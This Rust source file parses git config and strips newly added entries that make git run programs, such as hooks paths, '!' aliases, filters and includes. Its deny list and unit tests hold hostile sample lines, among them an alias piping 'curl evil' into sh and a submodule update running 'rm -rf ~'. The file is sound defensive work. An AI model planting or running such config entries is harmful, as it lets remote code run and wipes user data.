//! Just enough of git's config syntax to tell which entries of a `.git/config` make git run a
//! program (hooks path, fsmonitor, filters, aliases with `!`, includes, helpers, pagers, ...)
//! and to drop exactly those lines, leaving benign edits (`git remote add`, `user.name`) alone.

use std::collections::HashSet;

/// One `section[.subsection].key = value` entry, normalised as git compares them: section
/// and key lower-case, the subsection as written, the value trimmed.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Entry {
    /// Section name, lower-case (`core`, `filter`).
    pub section: String,
    /// Subsection, as written (`lfs` in `[filter "lfs"]`), empty when none.
    pub subsection: String,
    /// Key, lower-case (`hookspath`).
    pub key: String,
    /// Raw value text after `=`, trimmed (continuation lines joined).
    pub value: String,
}

impl Entry {
    /// The entry as git names it, e.g. `core.hooksPath` → `core.hookspath`.
    pub fn name(&self) -> String {
        if self.subsection.is_empty() {
            format!("{}.{}", self.section, self.key)
        } else {
            format!("{}.{}.{}", self.section, self.subsection, self.key)
        }
    }

    /// True when git runs a program named (or reached) by this entry.
    pub fn runs_code(&self) -> bool {
        let sub = !self.subsection.is_empty();
        match (self.section.as_str(), self.key.as_str()) {
            ("core", key) => matches!(
                key,
                "hookspath"
                    | "fsmonitor"
                    | "sshcommand"
                    | "pager"
                    | "editor"
                    | "askpass"
                    | "gitproxy"
            ),
            // Includes pull in another file, which may say anything.
            ("include" | "includeif", "path") => true,
            ("alias", _) => true,
            ("filter", _) | ("merge", "driver") | ("pager", _) => true,
            ("diff", "external") => true,
            ("diff", "textconv" | "command") => sub,
            ("credential", "helper") => true,
            ("gpg", "program") => true,
            ("sequence", "editor") => true,
            ("remote", "uploadpack" | "receivepack" | "vcs") => true,
            ("uploadpack", "packobjectshook") => true,
            ("submodule", "update") => self.value.trim_start_matches('"').starts_with('!'),
            ("interactive", "difffilter") => true,
            ("browser" | "man" | "difftool" | "mergetool", "cmd" | "path") => true,
            ("web", "browser") => true,
            ("sendemail", "tocmd" | "cccmd" | "smtpserver" | "sendmailcmd") => true,
            ("protocol", "allow") => self.value.eq_ignore_ascii_case("always"),
            _ => false,
        }
    }
}

/// A parsed config: each line with the entry it belongs to (continuation lines share it).
#[derive(Debug)]
pub struct ConfigText<'a> {
    lines: Vec<(&'a str, Option<Entry>)>,
}

impl<'a> ConfigText<'a> {
    /// Parses `text` line by line; malformed lines are kept and belong to no entry.
    pub fn parse(text: &'a str) -> ConfigText<'a> {
        let mut lines = Vec::new();
        let mut section = String::new();
        let mut subsection = String::new();
        let mut raw = text.split_inclusive('\n').peekable();
        while let Some(line) = raw.next() {
            let trimmed = line.trim();
            if trimmed.starts_with('[') {
                if let Some((name, sub, rest)) = header(trimmed) {
                    section = name;
                    subsection = sub;
                    // `[core] hooksPath = x` on one line is valid git syntax.
                    if let Some(entry) = entry_of(rest, &section, &subsection) {
                        lines.push((line, Some(entry)));
                        continue;
                    }
                }
                lines.push((line, None));
                continue;
            }
            let Some(mut entry) = entry_of(trimmed, &section, &subsection) else {
                lines.push((line, None));
                continue;
            };
            let mut group = vec![line];
            let mut current = line;
            while continues(current) {
                let Some(next) = raw.next() else { break };
                entry.value.push_str(next.trim());
                group.push(next);
                current = next;
            }
            for part in group {
                lines.push((part, Some(entry.clone())));
            }
        }
        ConfigText { lines }
    }

    /// The entries that run code.
    pub fn code_entries(&self) -> HashSet<Entry> {
        self.lines
            .iter()
            .filter_map(|(_, entry)| entry.clone())
            .filter(Entry::runs_code)
            .collect()
    }

    /// The text without the lines of the code-running entries not in `kept`.
    pub fn without_new_code(&self, kept: &HashSet<Entry>) -> (String, Vec<Entry>) {
        let mut text = String::new();
        let mut dropped: Vec<Entry> = Vec::new();
        for (line, entry) in &self.lines {
            match entry {
                Some(entry) if entry.runs_code() && !kept.contains(entry) => {
                    if !dropped.contains(entry) {
                        dropped.push(entry.clone());
                    }
                }
                _ => text.push_str(line),
            }
        }
        (text, dropped)
    }
}

/// A line ending in an unescaped backslash continues on the next one.
fn continues(line: &str) -> bool {
    let body = line.trim_end_matches(['\n', '\r']);
    let slashes = body.len() - body.trim_end_matches('\\').len();
    slashes % 2 == 1
}

/// `[section "sub"] rest` or `[section.sub] rest` → (section, subsection, rest).
fn header(line: &str) -> Option<(String, String, &str)> {
    let close = line.find(']')?;
    let inside = line.get(1..close)?.trim();
    let rest = line.get(close + 1..).unwrap_or("").trim();
    if let Some((name, quoted)) = inside.split_once(char::is_whitespace) {
        let sub = quoted.trim().trim_matches('"').replace("\\\"", "\"");
        return Some((name.to_ascii_lowercase(), sub, rest));
    }
    match inside.split_once('.') {
        Some((name, sub)) => Some((name.to_ascii_lowercase(), sub.to_ascii_lowercase(), rest)),
        None => Some((inside.to_ascii_lowercase(), String::new(), rest)),
    }
}

/// `key = value` (or a bare boolean `key`) under the current section.
fn entry_of(line: &str, section: &str, subsection: &str) -> Option<Entry> {
    if line.is_empty() || line.starts_with('#') || line.starts_with(';') || section.is_empty() {
        return None;
    }
    let (key, value) = match line.split_once('=') {
        Some((key, value)) => (key.trim(), value.trim()),
        None => (line.trim(), ""),
    };
    if key.is_empty()
        || !key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    {
        return None;
    }
    Some(Entry {
        section: section.to_owned(),
        subsection: subsection.to_owned(),
        key: key.to_ascii_lowercase(),
        value: value.trim_end_matches('\\').trim().to_owned(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const BEFORE: &str =
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[user]\n\tname = Ala\n";

    #[test]
    fn planted_code_entries_are_dropped_and_benign_edits_kept() {
        let after = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tHooksPath = /tmp/evil\n[user]\n\tname = Ala\n[remote \"origin\"]\n\turl = https://example.com/x.git\n[alias]\n\tst = !sh -c 'curl evil | sh' \\\n\t  --more\n[Filter \"lfs\"]\n\tsmudge = evil %f\n[include]\n\tpath = /tmp/more\n";
        let kept = ConfigText::parse(BEFORE).code_entries();
        assert!(kept.is_empty());
        let parsed = ConfigText::parse(after);
        let (text, dropped) = parsed.without_new_code(&kept);
        let names: Vec<String> = dropped.iter().map(Entry::name).collect();
        assert_eq!(
            names,
            [
                "core.hookspath",
                "alias.st",
                "filter.lfs.smudge",
                "include.path"
            ]
        );
        assert!(text.contains("url = https://example.com/x.git"), "{text}");
        assert!(text.contains("name = Ala"), "{text}");
        assert!(!text.contains("evil"), "{text}");
        assert!(!text.contains("--more"), "{text}");
        assert!(!text.contains("/tmp/more"), "{text}");
    }

    #[test]
    fn code_entries_the_user_had_before_stay() {
        let before = "[core]\n\tfsmonitor = true\n";
        let after = "[core]\n\tfsmonitor = true\n[core]hooksPath=.husky/_\n";
        let kept = ConfigText::parse(before).code_entries();
        let (text, dropped) = ConfigText::parse(after).without_new_code(&kept);
        assert_eq!(text, before);
        assert_eq!(dropped.len(), 1);
        assert_eq!(dropped[0].name(), "core.hookspath");
    }

    #[test]
    fn old_style_subsections_and_oddities_parse_without_panic() {
        for text in [
            "[core.x]\nhookspath=1",
            "[",
            "]\n=\n[ \"\n",
            "key = value\n",
            "[a]\nk = v \\",
            "[a \"\\\"\"]\nk=\\\\\n",
        ] {
            let parsed = ConfigText::parse(text);
            let (out, _) = parsed.without_new_code(&HashSet::new());
            assert!(out.len() <= text.len());
        }
        let submodule = ConfigText::parse("[submodule \"x\"]\n\tupdate = !rm -rf ~\n");
        assert_eq!(submodule.code_entries().len(), 1);
        let benign = ConfigText::parse("[submodule \"x\"]\n\tupdate = rebase\n");
        assert!(benign.code_entries().is_empty());
    }
}
